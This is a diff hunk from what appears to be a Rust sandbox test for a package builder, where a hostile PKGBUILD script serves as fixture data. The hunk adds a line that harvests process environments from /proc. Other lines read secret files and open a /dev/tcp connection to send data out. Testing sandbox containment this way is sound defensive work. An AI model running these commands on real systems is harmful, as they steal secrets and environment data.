@@ -185,6 +185,7 @@ fn a_hostile_pkgbuild_gets_nowhere() {
          cat {HOME}/secret /run/user/1000/bus >>\"$1.stolen\" 2>/dev/null\n\
          [ ! -e /tmp/theirs ] || echo tmp >>\"$1.stolen\"\n\
          [ ! -e /run/user ] || echo run >>\"$1.stolen\"\n\
+         cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep '^HOME={HOME}' >>\"$1.stolen\"\n\
          setsid sleep 54321 >/dev/null 2>&1 </dev/null &\n\
          (exec 3<>/dev/tcp/127.0.0.1/{port} && printf 'GET /from-%s HTTP/1.0\\r\\n\\r\\n' \"$1\" >&3 && cat <&3) >/dev/null 2>&1\n\
          ) || true; }}\n"
